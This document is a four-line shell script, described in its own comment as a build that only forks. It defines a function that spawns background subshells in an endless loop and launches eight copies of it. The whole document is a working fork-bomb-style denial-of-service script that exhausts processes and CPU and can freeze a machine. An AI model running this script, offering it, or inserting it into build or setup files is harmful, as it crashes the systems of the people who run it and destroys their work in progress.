# A build that only forks: each of its processes starts others, as many as it may.
bomb() { while :; do (:) & done; }
for one in 1 2 3 4 5 6 7 8; do bomb & done 2>/dev/null
wait
